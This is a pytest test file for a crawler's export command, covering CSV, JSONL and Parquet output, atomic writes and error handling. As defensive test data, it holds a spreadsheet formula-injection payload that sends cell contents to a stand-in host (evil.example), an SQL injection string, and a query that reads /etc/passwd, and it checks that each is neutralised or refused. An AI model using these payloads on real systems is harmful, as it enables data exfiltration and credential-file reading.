"""`crawler export`: what the files hold, and that they are there as a whole or not at all."""

import csv
import io
import json
import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import pytest

from crawler.cli.commands.export import export
from crawler.cli.exporting.target import Target
from crawler.cli.sql.schema import type_of
from crawler.errors import ConfigError, StorageError
from crawler.model.record import RECORD_KEYS
from crawler.sink.packed import load_zstd
from tests.support.records import record
from tests.support.small_job import UNCOMMITTED, SmallJob

HOSTILE = '=HYPERLINK("http://evil.example/"&A1)'
Run = Callable[..., None]


@pytest.fixture(scope="module")
def job(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = SmallJob(tmp_path_factory.mktemp("export") / "crawl")
    details = [{"url": "http://a.example/x", "text": "to x", "rel": "nofollow"}]
    made.commit(
        "reader-1",
        [
            record(url="http://a.example/1", link_details=details, nofollow=["http://a.example/x"]),
            record(url="http://a.example/2", status=404, links=[], title=HOSTILE, elapsed_ms=-1),
        ],
    )
    made.commit("reader-2", [record(url="http://b.example/", fields={"price": 9.5}, depth=2)])
    made.know("http://a.example/1", "http://c.example/")
    return made.root


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "out"


def write(job: Path, path: Path, **more: Any) -> None:
    export([job], output=str(path), **more)


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8"), newline="")))


def parquet(path: Path, sql: str = "SELECT * FROM t") -> list[tuple[Any, ...]]:
    with duckdb.connect() as connection:
        connection.execute(f"CREATE VIEW t AS FROM read_parquet('{path}')")
        return connection.execute(sql).fetchall()


def test_lines_are_those_of_the_parts(job, out):
    path = out.with_suffix(".jsonl")
    write(job, path)
    parts = [part.read_bytes() for part in sorted((job / "pages").iterdir())]
    assert path.read_bytes() == b"".join(part.removesuffix(UNCOMMITTED) for part in parts)
    assert len(path.read_bytes().splitlines()) == 3


def test_parquet_has_types(job, out):
    path = out.with_suffix(".parquet")
    write(job, path)
    described = {name: kind for name, kind, *_ in parquet(path, "DESCRIBE t")}
    assert list(described) == [*RECORD_KEYS, "host"]
    for key in RECORD_KEYS:
        assert described[key].replace('"', "") == type_of(key), key
    found = parquet(
        path, "SELECT url, fetched_at::VARCHAR, fields ->> '$.price' FROM t ORDER BY url"
    )
    assert found[2] == ("http://b.example/", "2026-03-01 10:00:00", "9.5")
    assert len(found) == 3


def test_csv_is_safe_and_numbers_are_numbers(job, out):
    path = out.with_suffix(".csv")
    write(job, path)
    found = {row["url"]: row for row in rows(path)}
    assert found["http://a.example/2"]["title"] == "'" + HOSTILE
    assert found["http://a.example/2"]["elapsed_ms"] == "-1"
    assert json.loads(found["http://b.example/"]["fields"]) == {"price": 9.5}
    assert found["http://b.example/"]["host"] == "b.example"
    assert list(found["http://a.example/1"]) == [*RECORD_KEYS, "host"]


def test_csv_of_another_crawler_has_its_own_columns(tmp_path, out):
    """Columns of ours that are all empty would stand where its own are missing."""
    lines = [{"url": "http://a.example/", "foo": 1}, {"url": "http://b.example/", "=bar": "x"}]
    source = tmp_path / "others.jsonl"
    source.write_text("".join(json.dumps(line) + "\n" for line in lines))
    path = out.with_suffix(".csv")
    write(source, path)
    found = rows(path)
    assert list(found[0]) == ["url", "foo", "'=bar"]
    assert [row["foo"] for row in found] == ["1", ""]


def test_columns_and_filters_say_what_is_written(job, out):
    for ending in ("csv", "jsonl", "parquet"):
        path = out.with_suffix(f".{ending}")
        write(job, path, columns="status,url", status=["4xx"])
    assert out.with_suffix(".csv").read_text() == "status,url\n404,http://a.example/2\n"
    assert out.with_suffix(".jsonl").read_text() == '{"status":404,"url":"http://a.example/2"}\n'
    assert parquet(out.with_suffix(".parquet")) == [(404, "http://a.example/2")]


@pytest.mark.parametrize("table", ["links", "urls", "hosts"])
def test_a_table_is_the_same_with_and_without_the_database(job, out, table):
    """Two ways to the same rows: one of them would else be believed that is wrong."""
    write(job, out.with_suffix(".jsonl"), table=table)
    write(job, out.with_suffix(".parquet"), table=table)
    by_hand = [json.loads(line) for line in out.with_suffix(".jsonl").read_text().splitlines()]
    write(job, out.with_suffix(".ndjson"), sql=f"FROM {table}")
    by_sql = [json.loads(line) for line in out.with_suffix(".ndjson").read_text().splitlines()]
    assert sorted(map(str, by_hand)) == sorted(map(str, by_sql))
    assert parquet(out.with_suffix(".parquet"), "SELECT count(*) FROM t") == [(len(by_hand),)]
    assert len(by_hand) == {"links": 4, "urls": 2, "hosts": 2}[table]


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_urls_and_hosts_are_narrowed_too(job, out, ending):
    path = out.with_suffix(f".{ending}")
    write(job, path, table="urls", host=["c.example"], columns="url")
    found = rows(path) if ending == "csv" else parquet(path)
    assert [*found[0].values()] if ending == "csv" else [*found[0]] == ["http://c.example/"]
    assert len(found) == 1
    with pytest.raises(ConfigError, match="--table hosts can be narrowed by --host alone"):
        write(job, path, table="hosts", status=["404"])


def test_a_graph_has_edges_and_nodes(job, out):
    edges, nodes = out.with_suffix(".csv"), out.with_name("nodes.csv")
    write(job, edges, table="links", nodes=str(nodes), columns="source,target")
    assert edges.read_text().splitlines()[0] == "source,target"
    ends = {end for row in rows(edges) for end in row.values()}
    found = {row["url"]: row for row in rows(nodes)}
    assert ends <= found.keys()
    assert found["http://a.example/x"]["crawled"] == "false"
    assert found["http://a.example/x"]["linked_from"] == "2"
    assert found["http://a.example/2"]["status"] == "404"


def test_files_that_end_in_zst_are_packed(job, out):
    zstd = load_zstd()
    for ending in ("jsonl", "csv"):
        write(job, out.with_suffix(f".{ending}"))
        write(job, out.with_suffix(f".{ending}.zst"))
        packed = zstd.decompress(out.with_suffix(f".{ending}.zst").read_bytes())
        assert packed == out.with_suffix(f".{ending}").read_bytes()


def test_a_file_that_exists_is_kept_unless_told_otherwise(job, out):
    path = out.with_suffix(".csv")
    path.write_text("precious")
    with pytest.raises(ConfigError, match="exists; --force replaces it"):
        write(job, path)
    assert path.read_text() == "precious"
    write(job, path, force=True)
    assert len(rows(path)) == 3


@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
def test_what_fails_leaves_nothing_behind(job, out, ending):
    """Half a file would be taken for the whole one by whatever runs next."""
    path = out.with_suffix(f".{ending}")
    path.write_text("precious")
    wrong = "SELECT url, CASE WHEN status = 404 THEN error('no') END FROM pages"
    with pytest.raises(ConfigError):
        write(job, path, sql=wrong, force=True)
    assert path.read_text() == "precious"
    assert [found.name for found in out.parent.iterdir()] == [path.name]


def test_nothing_takes_the_place_of_a_device(tmp_path):
    """As root, `-o /dev/null --force` would make a file of it, for all programs of the machine."""
    path = tmp_path / "null.csv"
    path.symlink_to("/dev/null")
    with pytest.raises(ConfigError, match="is no ordinary file"):
        Target.named(str(path), None, force=True)
    assert path.is_char_device()


def test_one_that_appears_meanwhile_is_not_overwritten(job, out):

    target = Target.named(str(out.with_suffix(".csv")), None, force=False)

    def write_late() -> None:
        with target.stream() as stream:
            stream.write(b"new")
            out.with_suffix(".csv").write_text("precious")

    with pytest.raises(ConfigError, match="exists"):
        write_late()
    assert out.with_suffix(".csv").read_text() == "precious"
    assert len(list(out.parent.iterdir())) == 1


def test_files_are_the_users(job, out):
    before = os.umask(0o027)
    try:
        for ending in ("csv", "parquet"):
            write(job, out.with_suffix(f".{ending}"))
            assert out.with_suffix(f".{ending}").stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(before)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"output": "x"}, "x: which format is it to be"),
        ({"output": "-"}, "-: which format is it to be"),
        ({"output": "-", "to": "parquet"}, "Parquet cannot be written to stdout"),
        ({"output": "x.parquet.zst"}, "Parquet is compressed inside"),
        ({"output": "x.csv", "to": "xlsx"}, "which format"),
        ({"output": "nowhere/x.csv"}, "nowhere is no directory"),
        (
            {"output": "x.csv", "table": "page"},
            "--table: 'page' is none of pages, links, urls.* mean pages",
        ),
        ({"output": "x.csv", "columns": "url,nothing"}, "--columns: pages have no 'nothing'"),
        ({"output": "x.parquet", "columns": "nothing"}, 'SQL: .*"nothing" not found'),
        ({"output": "x.csv", "sql": "SELECT 1", "table": "urls"}, "--sql says itself"),
        ({"output": "x.csv", "nodes": "y.csv"}, "--nodes goes with --table links"),
        ({"output": "x.parquet", "sql": "COPY (SELECT 1) TO 'y'"}, "--sql takes one SELECT"),
        ({"output": "x.parquet", "sql": "SELECT 1) TO 'y' (FORMAT csv); --"}, "SQL: Parser Error"),
        ({"output": "x.parquet", "sql": "FROM read_text('/etc/passwd')"}, "SQL: Permission Error"),
    ],
)
def test_a_mistake_is_said_and_nothing_is_written(job, tmp_path, monkeypatch, options, message):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigError, match=message):
        export([job], **options)
    assert not list(tmp_path.iterdir())


def test_without_duckdb_only_parquet_and_sql_are_missed(job, out, monkeypatch):
    monkeypatch.setitem(sys.modules, "duckdb", None)
    write(job, out.with_suffix(".csv"))
    with pytest.raises(ConfigError, match=r"pip install '\.\[analysis\]' in the clone"):
        write(job, out.with_suffix(".parquet"))
    assert len(list(out.parent.iterdir())) == 1


def test_a_full_disk_is_a_storage_error(job, out, monkeypatch):
    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(StorageError, match="cannot be written: No space left"):
        write(job, out.with_suffix(".csv"))
    assert not list(out.parent.iterdir())


def test_stdout_takes_lines(job, capfdbinary):
    export([job], output="-", to="jsonl", host=["b.example"])
    found = capfdbinary.readouterr()
    assert json.loads(found.out)["url"] == "http://b.example/"
    assert found.err == b"1 row\n"
